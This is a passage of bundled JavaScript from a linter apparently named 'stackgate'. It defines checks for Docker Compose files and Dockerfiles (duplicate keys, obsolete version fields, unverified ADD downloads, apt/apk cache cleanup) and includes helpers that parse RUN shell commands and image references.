        remediation: 'Define the variable in the stack .env file, an env file of the environment, or environments.<env>.variables in stackgate.yml; give it a default with ${VAR:-default}; or, when the deployment supplies it, list it in an .env.example (.env.sample, .env.dist) beside the Compose file or above it.',
        messages: { undefined: '{{detail}}' },
    },
});


/***/ }),

/***/ 44768:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
exports["default"] = (0, types_1.defineCheck)({
    id: 'compose/version-obsolete',
    target: 'compose-file',
    meta: {
        title: 'Top-level version is obsolete',
        category: 'correctness',
        severity: 'info',
        rationale: 'The Compose Specification ignores `version:`; Docker Compose v2 prints "the attribute `version` is obsolete" on every run, and the number misleads readers into thinking v2/v3 file-format rules (such as deploy being Swarm-only) still apply. dclint (no-version-field) flags it.',
        remediation: 'Delete the `version:` line.',
        messages: {
            obsolete: 'top-level "version: {{version}}" is obsolete and ignored by Docker Compose',
        },
    },
    check(ctx) {
        const node = (0, yaml_tree_1.getNode)(ctx.root, ['version']);
        if (!node)
            return;
        ctx.report({ messageId: 'obsolete', data: { version: String((0, yaml_tree_1.scalarOf)(node) ?? '') }, at: ['version'] });
    },
});


/***/ }),

/***/ 35570:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
/** Reported by the engine while loading files. */
exports["default"] = (0, types_1.defineEngineCheck)({
    id: 'core/duplicate-key',
    engine: 'file-problem',
    meta: {
        title: 'Mapping has a duplicate key',
        category: 'correctness',
        severity: 'error',
        rationale: 'YAML parsers disagree on duplicate keys: some keep the first value, some the last, some reject the file, so what is deployed is not what reviewers read.',
        remediation: 'Remove or rename one of the duplicate keys.',
        messages: { duplicate: '{{detail}}' },
    },
});


/***/ }),

/***/ 46947:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
/** Reported by the engine while loading files. */
exports["default"] = (0, types_1.defineEngineCheck)({
    id: 'core/empty-file',
    engine: 'file-problem',
    meta: {
        title: 'Configuration file is empty',
        category: 'correctness',
        severity: 'warning',
        rationale: 'An empty Compose or rule file deploys nothing and usually means a bad merge or a truncated write.',
        remediation: 'Restore the content or delete the file.',
        messages: { empty: '{{detail}}' },
    },
});


/***/ }),

/***/ 65022:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
/** Reported by the engine while loading files. */
exports["default"] = (0, types_1.defineEngineCheck)({
    id: 'core/file-too-large',
    engine: 'file-problem',
    meta: {
        title: 'File is larger than the size limit',
        category: 'operations',
        severity: 'info',
        rationale: 'Very large configuration files are usually generated or vendored (CRD bundles, rendered charts) and slow every tool that reads them. The file is not wrong, but stackgate did not check it: info, so the blind spot is visible without failing the gate.',
        remediation: 'Exclude the file with "exclude" in stackgate.yml, or raise "maxFileSizeKb".',
        messages: { tooLarge: '{{detail}}' },
    },
});


/***/ }),

/***/ 76403:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
/** Reported by the engine while loading files. */
exports["default"] = (0, types_1.defineEngineCheck)({
    id: 'core/file-unreadable',
    engine: 'file-problem',
    meta: {
        title: 'File or directory cannot be read',
        category: 'operations',
        severity: 'error',
        rationale: 'What cannot be read cannot be validated, and the deploy will likely fail on it too.',
        remediation: 'Check the permissions of the path.',
        messages: { unreadable: '{{detail}}' },
    },
});


/***/ }),

/***/ 88076:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
/** Reported by the engine while loading files. */
exports["default"] = (0, types_1.defineEngineCheck)({
    id: 'core/invalid-suppression',
    engine: 'suppression',
    meta: {
        title: 'Inline suppression is invalid',
        category: 'operations',
        severity: 'warning',
        rationale: 'A suppression must name an existing check and give a reason, so reviewers can judge it; an invalid one suppresses nothing.',
        remediation: 'Write "# stackgate-ignore <check-id>: <reason>" with a known check id (see "stackgate checks").',
        messages: {
            missingReason: 'suppression of {{checkId}} has no reason; write "# stackgate-ignore {{checkId}}: <reason>"',
            unknownCheck: 'suppression names unknown check "{{checkId}}"',
        },
    },
});


/***/ }),

/***/ 64809:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
/** Reported by the engine while loading files. */
exports["default"] = (0, types_1.defineEngineCheck)({
    id: 'core/parse-error',
    engine: 'file-problem',
    meta: {
        title: 'File is not valid YAML or JSON',
        category: 'correctness',
        severity: 'error',
        rationale: 'A file that does not parse is skipped by every other check and rejected by docker compose, kubectl and Prometheus at deploy time. Templates are not YAML until rendered and are not parsed: Helm chart templates (rendered with helm when it is installed) and Ansible role templates (`roles/<role>/templates/`).',
        remediation: 'Fix the syntax at the reported line; run the file through a YAML linter if the message is unclear.',
        messages: { syntax: 'cannot parse: {{detail}}' },
    },
});


/***/ }),

/***/ 15893:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
/** Reported by the engine while loading files. */
exports["default"] = (0, types_1.defineEngineCheck)({
    id: 'core/symlink-outside-repository',
    engine: 'file-problem',
    meta: {
        title: 'Symbolic link points outside the repository',
        category: 'security',
        severity: 'info',
        rationale: 'Following links out of the repository could read files the pipeline must not see; stackgate does not follow them.',
        remediation: 'Replace the link with the file itself, or ignore this finding if the link is intentional.',
        messages: { outside: '{{detail}}' },
    },
});


/***/ }),

/***/ 81637:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
/** Reported by the engine while loading files. */
exports["default"] = (0, types_1.defineEngineCheck)({
    id: 'core/yaml-alias-limit',
    engine: 'file-problem',
    meta: {
        title: 'YAML aliases expand too far',
        category: 'security',
        severity: 'error',
        rationale: 'An alias bomb ("billion laughs") expands a small file into gigabytes and takes down whatever parses it.',
        remediation: 'Reduce alias nesting; stackgate refuses documents whose aliases add more than 50,000 nodes.',
        messages: { limit: '{{detail}}' },
    },
});


/***/ }),

/***/ 1629:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.addSpecOf = addSpecOf;
exports.isUrl = isUrl;
exports.isGitSource = isGitSource;
exports.isArchive = isArchive;
/** Sources and flags of ADD/COPY instructions, in shell and JSON form. */
const dockerfile_ast_1 = __webpack_require__(78390);
function addSpecOf(instruction) {
    const flags = new Map();
    if (instruction instanceof dockerfile_ast_1.ModifiableInstruction)
        for (const f of instruction.getFlags())
            flags.set(f.getName(), f.getValue());
    let args;
    if (instruction instanceof dockerfile_ast_1.JSONInstruction && instruction.getOpeningBracket() && instruction.getClosingBracket()) {
        args = instruction.getJSONStrings().map((s) => {
            try {
                const v = JSON.parse(s.getValue());
                return typeof v === 'string' ? v : s.getValue();
            }
            catch {
                return s.getValue().replace(/^"|"$/g, '');
            }
        });
    }
    else {
        args = instruction.getArguments().map((a) => a.getValue());
    }
    const isHeredoc = args.some((a) => a.startsWith('<<'));
    return { sources: args.slice(0, -1), destination: args[args.length - 1], flags, isHeredoc };
}
function isUrl(source) {
    return /^https?:\/\//i.test(source);
}
function isGitSource(source) {
    return /^git@|^git:\/\/|\.git(#.*)?$|^https?:\/\/[^#]+\.git\b/i.test(source);
}
/** Local archives ADD extracts (the one thing ADD does that COPY does not). */
function isArchive(source) {
    return /\.(tar|tar\.gz|tgz|tar\.bz2|tbz2?|tar\.xz|txz|tar\.zst|tzst|tar\.lz|tar\.lzma|tlz)$/i.test(source);
}


/***/ }),

/***/ 87188:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.resolvedImageOf = resolvedImageOf;
exports.externalImageOf = externalImageOf;
exports.parseImageRef = parseImageRef;
const _stages_1 = __webpack_require__(30894);
/** The image a stage's FROM names with its ARGs resolved (`scratch` included); undefined for stage references and unresolved variables. */
function resolvedImageOf(dockerfile, stage) {
    const written = stage.from.getImage();
    if (!written)
        return undefined;
    const image = resolveArgs(dockerfile, written);
    return image === undefined || /\$/.test(image) ? undefined : image;
}
/** Undefined for `scratch`, stage references and images that still contain unresolved variables. */
function externalImageOf(dockerfile, stages, stage) {
    if ((0, _stages_1.isStageReference)(stages, stage))
        return undefined;
    const written = stage.from.getImage();
    if (!written)
        return undefined;
    const image = resolveArgs(dockerfile, written);
    if (image === undefined || /\$/.test(image))
        return undefined;
    if (image.toLowerCase() === 'scratch')
        return undefined;
    return parseImageRef(image);
}
function resolveArgs(dockerfile, text) {
    if (!text.includes('$'))
        return text;
    const defaults = new Map();
    for (const arg of dockerfile.getInitialARGs()) {
        const p = arg.getProperty();
        const value = p?.getValue();
        if (p && typeof value === 'string')
            defaults.set(p.getName(), value);
    }
    let unresolved = false;
    const out = text.replace(/\$\{([A-Za-z_][A-Za-z0-9_]*)(?::?[-+][^}]*)?\}|\$([A-Za-z_][A-Za-z0-9_]*)/g, (m, braced, bare) => {
        const name = braced ?? bare ?? '';
        const fallback = /\$\{[^:}-]*:?-([^}]*)\}/.exec(m)?.[1];
        const v = defaults.get(name) ?? fallback;
        if (v === undefined)
            unresolved = true;
        return v ?? m;
    });
    return unresolved ? undefined : out;
}
function parseImageRef(image) {
    let rest = image;
    let digest;
    const at = rest.indexOf('@');
    if (at >= 0) {
        digest = rest.slice(at + 1);
        rest = rest.slice(0, at);
    }
    let tag;
    const slash = rest.lastIndexOf('/');
    const colon = rest.lastIndexOf(':');
    if (colon > slash) {
        tag = rest.slice(colon + 1);
        rest = rest.slice(0, colon);
    }
    return { image, name: rest, tag, digest };
}


/***/ }),

/***/ 19195:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.runScript = runScript;
exports.baseName = baseName;
exports.parseShell = parseShell;
exports.commandWords = commandWords;
exports.runCommands = runCommands;
exports.positionals = positionals;
exports.hasSubcommand = hasSubcommand;
const SHELLS = new Set(['sh', 'bash', 'ash', 'dash', 'zsh', 'ksh']);
/** The shell script a RUN instruction executes: exec form joined, continuations and comment lines removed, heredoc bodies included. */
function runScript(instruction, escapeChar = '\\') {
    const raw = instruction.getRawArgumentsContent() ?? '';
    const trimmed = raw.trim();
    if (trimmed.startsWith('[')) {
        try {
            const parsed = JSON.parse(trimmed);
            if (Array.isArray(parsed) && parsed.every((p) => typeof p === 'string')) {
                // ["sh", "-c", "script"] runs the script; any other exec form is one command.
                const [first, flag, script] = parsed;
                if (first && SHELLS.has(baseName(first)) && flag === '-c' && typeof script === 'string')
                    return script;
                return parsed.map(quoteWord).join(' ');
            }
        }
        catch {
            // Not valid JSON: Docker runs it in shell form, and so do we.
        }
    }
    const lines = raw.split(/\r?\n/);
    const heredoc = /<<(-?)\s*(["']?)([A-Za-z_][\w.-]*)\2/g;
    const first = lines[0] ?? '';
    const markers = [...first.matchAll(heredoc)];
    if (!markers.length)
        return joinContinuations(dropCommentLines(lines), escapeChar);
    // RUN <<EOF ... EOF (and RUN bash <<EOF): the bodies are shell; RUN python3 <<EOF feeds Python on stdin.
    const head = first.replace(heredoc, ' ').trim();
    const headCommand = head.split(/\s+/)[0] ?? '';
    const bodyIsShell = head === '' || SHELLS.has(baseName(headCommand)) || /^set\b/.test(head);
    const parts = [head];
    let i = 1;
    for (const m of markers) {
        const strip = m[1] === '-';
        const name = m[3];
        const body = [];
        for (; i < lines.length; i++) {
            const line = strip ? lines[i].replace(/^\t+/, '') : lines[i];
            if (line.trim() === name) {
                i++;
                break;
            }
            body.push(line);
        }
        const shebang = body[0]?.startsWith('#!') ? body[0] : '';
        if (bodyIsShell && (!shebang || /\b(ba|z|k|da|a)?sh\b/.test(shebang)))
            parts.push(joinContinuations(dropCommentLines(body), '\\'));
    }
    return parts.join('\n');
}
function dropCommentLines(lines) {
    return lines.filter((l, i) => i === 0 || !/^\s*#/.test(l));
}
function joinContinuations(lines, escapeChar) {
    const out = [];
    let cur = '';
    for (const line of lines) {
        if (line.endsWith(escapeChar) && !line.endsWith(escapeChar + escapeChar))
            cur += line.slice(0, -escapeChar.length) + ' ';
        else {
            out.push(cur + line);
            cur = '';
        }
    }
    if (cur)
        out.push(cur);
    return out.join('\n');
}
function quoteWord(w) {
    return /^[\w@%+=:,./-]+$/.test(w) ? w : `'${w.replace(/'/g, `'\\''`)}'`;
}
function baseName(word) {
    const i = word.lastIndexOf('/');
    return i >= 0 ? word.slice(i + 1) : word;
}
/** Splits a shell script into simple commands. */
function parseShell(script) {
    const commands = [];
    let words = [];
    let word = null;
    let pipeline = 0;
    let skipNextWord = false;
    const endWord = () => {
        if (word === null)
            return;
        if (skipNextWord)
            skipNextWord = false;
        else
            words.push(word);
        word = null;
    };
    const endCommand = (pipe) => {
        endWord();
        skipNextWord = false;
        const cleaned = words.filter((w, i) => !(i === 0 && (w === '{' || w === '}' || w === '!')) && w !== '}');
        if (cleaned.length)
            commands.push({ words: cleaned, pipeline });
        words = [];
        if (!pipe)
            pipeline++;
    };
    const s = script;
    for (let i = 0; i < s.length; i++) {
        const c = s[i];
        if (c === '\\') {
            if (s[i + 1] === '\n') {
                i++;
                continue;
            }
            word = (word ?? '') + (s[i + 1] ?? '');
            i++;
            continue;
        }
        if (c === "'") {
            const end = s.indexOf("'", i + 1);
            const stop = end < 0 ? s.length : end;
            word = (word ?? '') + s.slice(i + 1, stop);
            i = stop;
            continue;
        }
        if (c === '"') {
            let j = i + 1;
            let text = '';
            while (j < s.length && s[j] !== '"') {
                if (s[j] === '\\' && j + 1 < s.length && '"\\$`\n'.includes(s[j + 1])) {
                    if (s[j + 1] !== '\n')
                        text += s[j + 1];
                    j += 2;
                    continue;
                }
                text += s[j];
                j++;
            }
            word = (word ?? '') + text;
            i = j;
            continue;
        }
        if (c === '#' && word === null) {
            while (i < s.length && s[i] !== '\n')
                i++;
            endCommand(false);
            continue;
        }
        if (c === ' ' || c === '\t' || c === '\r') {
            endWord();
            continue;
        }
        if (c === '\n' || c === ';' || c === '(' || c === ')' || c === '`') {
            endCommand(false);
            continue;
        }
        if (c === '$' && s[i + 1] === '(') {
            // $(cmd): the substitution is a command of its own; the word before it ends.
            endWord();
            endCommand(false);
            i++;
            continue;
        }
        if (c === '&' || c === '|') {
            const next = s[i + 1];
            if (c === '|' && next !== '|') {
                if (next === '&')
                    i++;
                endCommand(true);
                continue;
            }
            if (c === '&' && next === '>') {
                // &> file
                endWord();
                i++;
                if (s[i + 1] === '>')
                    i++;
                skipNextWord = true;
                continue;
            }
            if (next === c)
                i++;
            endCommand(false);
            continue;
        }
        if (c === '>' || c === '<') {
            // Redirection: drop a file-descriptor prefix (2>) and the target word.
            if (word !== null && /^\d+$/.test(word))
                word = null;
            endWord();
            while (s[i + 1] === '>' || s[i + 1] === '<')
                i++;
            if (s[i + 1] === '&') {
                i++;
                while (i + 1 < s.length && /[\d-]/.test(s[i + 1]))
                    i++;
                continue;
            }
            skipNextWord = true;
            continue;
        }
        word = (word ?? '') + c;
    }
    endCommand(false);
    return commands;
}
const WRAPPERS = new Set(['sudo', 'env', 'time', 'nohup', 'exec', 'command', 'builtin', 'nice', 'doas', 'su-exec', 'gosu']);
const WRAPPER_ARG_FLAGS = new Set(['-u', '-g', '-n', '-C']);
/** The words of the command itself: leading `VAR=value` assignments and wrappers (sudo, env, exec ...) removed. */
function commandWords(words) {
    let i = 0;
    while (i < words.length) {
        const w = words[i];
        if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(w)) {
            i++;
            continue;
        }
        if (WRAPPERS.has(baseName(w))) {
            const wrapper = baseName(w);
            i++;
            while (i < words.length && words[i].startsWith('-'))
                i += WRAPPER_ARG_FLAGS.has(words[i]) ? 2 : 1;
            // gosu/su-exec take a user first.
            if ((wrapper === 'gosu' || wrapper === 'su-exec') && i < words.length)
                i++;
            continue;
        }
        break;
    }
    return words.slice(i);
}
/** The parsed commands of one RUN instruction, with the command word normalised (`/usr/bin/apt-get` -> `apt-get`). */
function runCommands(instruction, escapeChar = '\\') {
    return parseShell(runScript(instruction, escapeChar)).map((raw) => {
        const words = commandWords(raw.words);
        return { raw, words, name: words.length ? baseName(words[0]) : '' };
    });
}
/** Flags whose value is the next word (`apt-get -o Opt=1`, `npm --prefix dir`). */
const VALUE_FLAGS = new Set(['-o', '-c', '-t', '--prefix', '--registry', '--cache', '--userconfig', '--workspace', '-w', '--target', '--root']);
/** Positional (non-flag) words after the command name. */
function positionals(words) {
    const out = [];
    for (let i = 1; i < words.length; i++) {
        const w = words[i];
        if (VALUE_FLAGS.has(w))
            i++;
        else if (!w.startsWith('-'))
            out.push(w);
    }
    return out;
}
/** `apt-get install`, `apk add`, `pip install`: whether the first positional word is the subcommand. */
function hasSubcommand(words, ...subcommands) {
    const first = positionals(words)[0];
    return first !== undefined && subcommands.includes(first);
}


/***/ }),

/***/ 30894:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.stagesOf = stagesOf;
exports.parentStage = parentStage;
exports.isStageReference = isStageReference;
exports.shippedStages = shippedStages;
exports.locOf = locOf;
exports.runInstructions = runInstructions;
exports.hasCacheMount = hasCacheMount;
exports.unquote = unquote;
/** Build stages of a Dockerfile, which of them ship in the final image, and instruction locations. */
const dockerfile_ast_1 = __webpack_require__(78390);
function stagesOf(dockerfile) {
    const froms = dockerfile.getFROMs();
    const instructions = dockerfile.getInstructions();
    return froms.map((from, index) => {
        const start = from.getRange().start.line;
        const end = froms[index + 1]?.getRange().start.line ?? Number.POSITIVE_INFINITY;
        const name = from.getBuildStage();
        return {
            index,
            from,
            name: name ? name.toLowerCase() : undefined,
            instructions: instructions.filter((i) => {
                const line = i.getRange().start.line;
                return line > start && line < end;
            }),
        };
    });
}
/** The stage a FROM builds on when it names an earlier stage (`FROM build`), else undefined. */
function parentStage(stages, stage) {
    const image = stage.from.getImage()?.toLowerCase();
    if (!image)
        return undefined;
    return stages.slice(0, stage.index).find((s) => s.name === image);
}
/** Whether a FROM refers to an earlier build stage rather than an image. */
function isStageReference(stages, stage) {
    return parentStage(stages, stage) !== undefined;
}
/** The final stage and the stages it is built FROM: their layers end up in the shipped image. */
function shippedStages(stages) {
    const out = [];
    let cur = stages[stages.length - 1];
    while (cur && !out.includes(cur)) {
        out.push(cur);
        cur = parentStage(stages, cur);
    }
    return out;
}
function locOf(file, instruction) {
    const r = instruction.getRange();
    return { file, line: r.start.line + 1, column: r.start.character + 1 };
}
function runInstructions(instructions) {
    return instructions.filter((i) => i instanceof dockerfile_ast_1.Run);
}
/** Whether a RUN mounts a BuildKit cache (or tmpfs) over a path starting with one of the prefixes. */
function hasCacheMount(run, prefixes) {
    return run.getFlags().some((f) => {
        if (f.getName() !== 'mount')
            return false;
        const value = f.getValue() ?? '';
        const opts = Object.fromEntries(value.split(',').map((kv) => {
            const eq = kv.indexOf('=');
            return eq < 0 ? [kv, ''] : [kv.slice(0, eq), kv.slice(eq + 1)];
        }));
        if (opts.type !== 'cache' && opts.type !== 'tmpfs')
            return false;
        const target = opts.target ?? opts.dst ?? opts.destination ?? '';
        return prefixes.some((p) => target === p || target.startsWith(p.endsWith('/') ? p : `${p}/`) || p.startsWith(`${target}/`));
    });
}
/** Unquoted value of a scalar argument such as a WORKDIR path. */
function unquote(value) {
    const v = value.trim();
    if (v.length >= 2 && (v[0] === '"' || v[0] === "'") && v[v.length - 1] === v[0])
        return v.slice(1, -1);
    return v;
}


/***/ }),

/***/ 47548:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _add_sources_1 = __webpack_require__(1629);
const _stages_1 = __webpack_require__(30894);
exports["default"] = (0, types_1.defineCheck)({
    id: 'dockerfile/add-instead-of-copy',
    target: 'dockerfile',
    meta: {
        title: 'ADD used to copy local files',
        category: 'correctness',
        severity: 'info',
        rationale: 'ADD silently extracts anything that looks like a local tar archive and can fetch URLs; for plain files it does what COPY does, with surprises. Using COPY makes the intent explicit. hadolint DL3020.',
        remediation: 'Replace `ADD <src> <dest>` with `COPY <src> <dest>`; keep ADD only for local archives you want extracted.',
        messages: { useCopy: 'ADD {{source}} copies a local file; use COPY' },
    },
    check(ctx) {
        for (const instr of ctx.dockerfile.getInstructions()) {
            if (instr.getKeyword() !== 'ADD')
                continue;
            const spec = (0, _add_sources_1.addSpecOf)(instr);
            if (spec.isHeredoc)
                continue;
            const local = spec.sources.filter((s) => !(0, _add_sources_1.isUrl)(s) && !(0, _add_sources_1.isGitSource)(s) && !(0, _add_sources_1.isArchive)(s) && !s.includes('$'));
            if (local.length)
                ctx.report({ messageId: 'useCopy', data: { source: local.join(' ') }, at: (0, _stages_1.locOf)(ctx.file, instr) });
        }
    },
});


/***/ }),

/***/ 71767:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _add_sources_1 = __webpack_require__(1629);
const _stages_1 = __webpack_require__(30894);
exports["default"] = (0, types_1.defineCheck)({
    id: 'dockerfile/add-url',
    target: 'dockerfile',
    meta: {
        title: 'ADD downloads a URL without a checksum',
        category: 'supply-chain',
        severity: 'warning',
        rationale: 'ADD <url> fetches whatever the server returns at build time, with no integrity check: a compromised or changed download goes straight into the image, and the build is not reproducible. hadolint recommends curl/wget with verification instead (DL3020 family).',
        remediation: 'Verify the download: `ADD --checksum=sha256:<hash> <url> <dest>` (Dockerfile syntax 1.6+), or `RUN curl -fsSLo /tmp/x <url> && echo "<hash>  /tmp/x" | sha256sum -c -`.',
        messages: { url: 'ADD downloads {{url}} without --checksum' },
    },
    check(ctx) {
        for (const instr of ctx.dockerfile.getInstructions()) {
            if (instr.getKeyword() !== 'ADD')
                continue;
            const spec = (0, _add_sources_1.addSpecOf)(instr);
            if (spec.isHeredoc || spec.flags.has('checksum'))
                continue;
            for (const src of spec.sources) {
                if ((0, _add_sources_1.isUrl)(src))
                    ctx.report({ messageId: 'url', data: { url: src.replace(/\/\/[^/@]*@/, '//***@') }, at: (0, _stages_1.locOf)(ctx.file, instr) });
            }
        }
    },
});


/***/ }),

/***/ 39403:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _shell_1 = __webpack_require__(19195);
const _stages_1 = __webpack_require__(30894);
exports["default"] = (0, types_1.defineCheck)({
    id: 'dockerfile/apk-no-cache',
    target: 'dockerfile',
    meta: {
        title: 'apk add keeps its package cache',
        category: 'resources',
        severity: 'warning',
        rationale: '`apk add` without --no-cache leaves the APKINDEX and downloaded packages in /var/cache/apk, bloating every layer that installs packages. hadolint DL3019. Builder stages are not checked: their layers are not shipped.',
        remediation: 'Use `apk add --no-cache <packages>` (it also makes `apk update` unnecessary), or a BuildKit cache mount on /var/cache/apk.',
        messages: { cache: 'apk add runs without --no-cache' },
    },
    check(ctx) {
        const escape = ctx.dockerfile.getEscapeCharacter();
        for (const stage of (0, _stages_1.shippedStages)((0, _stages_1.stagesOf)(ctx.dockerfile))) {
            for (const run of (0, _stages_1.runInstructions)(stage.instructions)) {
                const cmds = (0, _shell_1.runCommands)(run, escape);
                if ((0, _stages_1.hasCacheMount)(run, ['/var/cache/apk']))
                    continue;
                const cleaned = cmds.some((c) => c.name === 'rm' && c.words.some((w) => w.startsWith('/var/cache/apk')));
                for (const c of cmds) {
                    if (c.name !== 'apk' || !(0, _shell_1.hasSubcommand)(c.words, 'add'))
                        continue;
                    if (cleaned || c.words.includes('--no-cache'))
                        continue;
                    ctx.report({ messageId: 'cache', at: (0, _stages_1.locOf)(ctx.file, run) });
                }
            }
        }
    },
});


/***/ }),

/***/ 14384:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _shell_1 = __webpack_require__(19195);
const _stages_1 = __webpack_require__(30894);
exports["default"] = (0, types_1.defineCheck)({
    id: 'dockerfile/apt-cache',
    target: 'dockerfile',
    meta: {
        title: 'apt-get lists are left in the image',
        category: 'resources',
        severity: 'warning',
        rationale: 'The package lists downloaded by `apt-get update` add tens of megabytes to the layer that installs packages, on every pull and every node; deleting them in a later RUN does not shrink the earlier layer. hadolint DL3009. Builder stages are not checked: their layers are not shipped.',
        remediation: 'End the same RUN with `&& rm -rf /var/lib/apt/lists/*` (or `apt-get dist-clean` with apt 2.7+), or use a BuildKit cache mount: `RUN --mount=type=cache,target=/var/lib/apt/lists ...`.',
        messages: { listsKept: '{{command}} runs without removing /var/lib/apt/lists/* in the same RUN' },
    },
    check(ctx) {
        const escape = ctx.dockerfile.getEscapeCharacter();
        for (const stage of (0, _stages_1.shippedStages)((0, _stages_1.stagesOf)(ctx.dockerfile))) {
            for (const run of (0, _stages_1.runInstructions)(stage.instructions)) {
                const cmds = (0, _shell_1.runCommands)(run, escape);
                const install = cmds.find((c) => (c.name === 'apt-get' || c.name === 'apt') && (0, _shell_1.hasSubcommand)(c.words, 'install', 'upgrade', 'dist-upgrade'));
                if (!install)
                    continue;
                // `apt-get dist-clean` (apt 2.7+: Debian trixie, Ubuntu 24.04) empties /var/lib/apt/lists but for the Release files.
                const cleaned = cmds.some((c) => (c.name === 'rm' && c.words.some((w) => w.startsWith('/var/lib/apt/lists'))) ||
                    ((c.name === 'apt-get' || c.name === 'apt') && (0, _shell_1.hasSubcommand)(c.words, 'dist-clean', 'distclean')));
                if (cleaned || (0, _stages_1.hasCacheMount)(run, ['/var/lib/apt/lists']))
                    continue;
                ctx.report({
                    messageId: 'listsKept',
                    data: { command: `${install.name} ${(0, _shell_1.hasSubcommand)(install.words, 'install') ? 'install' : 'upgrade'}` },
                    at: (0, _stages_1.locOf)(ctx.file, run),
                });
            }
        }
    },
});


/***/ }),

/***/ 64341:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _shell_1 = __webpack_require__(19195);
const _stages_1 = __webpack_require__(30894);
exports["default"] = (0, types_1.defineCheck)({
    id: 'dockerfile/apt-no-install-recommends',
    target: 'dockerfile',
    meta: {
        title: 'apt-get install pulls recommended packages',
        category: 'resources',
        severity: 'info',
        rationale: 'Without --no-install-recommends, apt installs every "recommended" package too, often doubling the image and adding software (and CVEs) nobody asked for. hadolint DL3015. Builder stages are not checked: their layers are not shipped.',
        remediation: 'Use `apt-get install -y --no-install-recommends <packages>`, and add back explicitly any recommended package you really need.',
        messages: { recommends: '{{command}} install runs without --no-install-recommends' },
    },
    check(ctx) {
        const escape = ctx.dockerfile.getEscapeCharacter();
        for (const stage of (0, _stages_1.shippedStages)((0, _stages_1.stagesOf)(ctx.dockerfile))) {
            for (const run of (0, _stages_1.runInstructions)(stage.instructions)) {
                for (const c of (0, _shell_1.runCommands)(run, escape)) {
                    if ((c.name !== 'apt-get' && c.name !== 'apt') || !(0, _shell_1.hasSubcommand)(c.words, 'install'))
                        continue;
                    const words = c.words.join(' ');
                    if (/--no-install-recommends\b|APT::Install-Recommends=(false|0|"false")/i.test(words))
                        continue;
                    ctx.report({ messageId: 'recommends', data: { command: c.name }, at: (0, _stages_1.locOf)(ctx.file, run) });
                }
            }
        }
    },
});


/***/ }),

/***/ 65077:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _shell_1 = __webpack_require__(19195);
const _stages_1 = __webpack_require__(30894);
exports["default"] = (0, types_1.defineCheck)({
    id: 'dockerfile/cd-in-run',
    target: 'dockerfile',
    meta: {
        title: 'RUN changes directory with cd',
        category: 'operations',
        severity: 'info',
        rationale: '`cd` only lasts for one RUN, so later instructions silently run elsewhere, and the next reader has to trace the working directory by hand. WORKDIR is explicit and persists. hadolint DL3003.',
        remediation: "Set the directory with `WORKDIR /path` before the RUN, or use the tool's own option (`make -C dir`, `npm --prefix dir`, `tar -C dir`).",
        messages: { cd: 'RUN uses `cd {{dir}}`; use WORKDIR' },
    },
    check(ctx) {
        const escape = ctx.dockerfile.getEscapeCharacter();
        for (const run of (0, _stages_1.runInstructions)(ctx.dockerfile.getInstructions())) {
            const cd = (0, _shell_1.runCommands)(run, escape).find((c) => c.name === 'cd' && c.words.length > 1 && c.words[1] !== '-');
            if (cd)
                ctx.report({ messageId: 'cd', data: { dir: cd.words[1] }, at: (0, _stages_1.locOf)(ctx.file, run) });
        }
    },
});


/***/ }),

/***/ 7097:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.isWorldWritableMode = isWorldWritableMode;
const dockerfile_ast_1 = __webpack_require__(78390);
const types_1 = __webpack_require__(15200);
const _shell_1 = __webpack_require__(19195);
const _stages_1 = __webpack_require__(30894);
/**
 * Whether a chmod mode makes files writable by everyone: an octal mode whose "other" digit has the
 * write bit (777, 0666, 2777), or a symbolic clause for others or all (`o+w`, `a+rwx`, `ugo=rwx`).
 * A sticky directory (1777, `+t`) is the shared-temp pattern and is left alone.
 */
function isWorldWritableMode(mode) {
    if (/^[0-7]{3,4}$/.test(mode)) {
        const digits = mode.padStart(4, '0');
